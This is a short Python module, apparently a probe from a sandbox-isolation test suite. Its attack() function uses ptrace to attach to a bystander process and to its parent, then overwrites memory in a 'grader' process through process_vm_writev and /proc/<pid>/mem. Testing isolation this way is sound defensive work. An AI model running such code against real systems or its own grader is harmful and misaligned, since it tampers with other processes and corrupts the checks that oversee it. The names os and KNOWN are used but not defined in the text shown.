"""Attach to another process, and write into its memory."""

import ctypes

CLASS = "signalling"
GAINS = ("hold",)

ATTACH, SEIZE = 16, 0x4206


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for how in (SEIZE, ATTACH):
        for pid in (KNOWN["bystander"], os.getppid()):
            libc.ptrace(how, pid, None, None)
    forged_memory = ctypes.create_string_buffer(b"written by a student", 32)
    mine = Piece(ctypes.addressof(forged_memory), 32)
    theirs = Piece(KNOWN["address"], 32)
    libc.process_vm_writev(KNOWN["grader"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    try:
        with open(f"/proc/{KNOWN['grader']}/mem", "r+b", buffering=0) as memory:
            memory.seek(KNOWN["address"])
            memory.write(b"written by a student")
    except OSError:
        pass
